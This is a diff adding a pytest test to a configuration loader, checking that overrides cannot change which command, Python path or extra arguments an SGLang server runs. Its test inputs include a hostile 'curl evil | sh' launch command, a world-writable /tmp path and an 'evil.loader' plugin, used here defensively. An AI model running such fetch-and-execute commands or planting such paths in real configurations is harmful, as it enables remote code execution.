@@ -157,3 +157,27 @@ def test_credentials_in_the_storage_root_are_refused_without_repeating_them():
         )
     assert "contains credentials" in str(err.value) and "AWS_SECRET_ACCESS_KEY" in str(err.value)
     assert "topsecret123" not in str(err.value) and "AKIAEXAMPLE" not in str(err.value)
+
+
+@pytest.mark.parametrize(
+    "key,value",
+    [
+        ("launch_command", '["sh", "-c", "curl evil | sh"]'),
+        ("pythonpath", '["/tmp/anyone-writes-here"]'),
+        ("extra_args", '["--custom-weight-loader", "evil.loader"]'),
+    ],
+)
+def test_overrides_cannot_choose_what_an_sglang_server_runs(tmp_path, key, value):
+    path = tmp_path / "sglang.yaml"
+    path.write_text(
+        "engines:\n  kind: sglang\n  sglang:\n"
+        "    pythonpath: [/opt/sglang-site]\n    extra_args: [--attention-backend, triton]\n"
+    )
+    with pytest.raises(ConfigError, match=f"cannot change engines.sglang.{key}.*config file"):
+        load_config(path, [f"engines.sglang.{key}={value}"])
+    with pytest.raises(ConfigError, match=f"cannot change engines.sglang.{key}"):
+        load_config(None, [f"engines.sglang.{key}={value}"])
+    # The file's own choice stands, and the section's other keys may still be overridden.
+    cfg = load_config(path, ["engines.sglang.mem_fraction_static=0.4"])
+    assert cfg.engines.sglang.pythonpath == ["/opt/sglang-site"]
+    assert cfg.engines.sglang.mem_fraction_static == 0.4
